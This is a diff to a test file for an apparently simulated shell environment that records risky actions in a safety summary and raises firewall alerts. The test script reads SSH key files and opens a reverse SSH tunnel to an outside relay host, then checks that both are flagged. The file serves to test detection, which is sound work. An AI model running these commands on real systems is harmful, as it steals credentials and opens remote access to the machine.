@@ -113,12 +113,13 @@ test('control bytes typed or piped in are echoed escaped, never raw (ESC, NUL, B
 });
 
 test('exit or end of input mid-episode prints the safety summary with --reveal, alerts still due included', () => {
-  const script = ['cat ~/.ssh/id_ed25519 > /dev/null', 'ssh -fNR 2222:localhost:22 relay@203.0.113.7'];
+  // mining draws the key's file name per episode: list ~/.ssh, then read whatever key is there.
+  const script = ['ls ~/.ssh > /dev/null', 'grep -r KEY ~/.ssh > /dev/null', 'ssh -fNR 2222:localhost:22 relay@203.0.113.7'];
   for (const end of ['exit\n', '']) {
     const r = play(['--scenario', 'mining', '--reveal', '--seed', '4'], script.join('\n') + '\n' + end);
     assert.equal(r.status, 0, r.stderr);
     const lines = r.stdout.trimEnd().split('\n');
-    const i = lines.findIndex((l) => l.startsWith('# session ended after 2 ticks, the episode still running'));
+    const i = lines.findIndex((l) => l.startsWith('# session ended after 3 ticks, the episode still running'));
     assert.ok(i > 0, r.stdout);
     assert.match(lines[i + 1]!, /^# safety: .*tunnel_opened=1/);
     assert.ok(lines.slice(i).some((l) => /^# firewall t=\d+: ALERT outbound_ssh .*\[still due\]$/.test(l)), r.stdout);
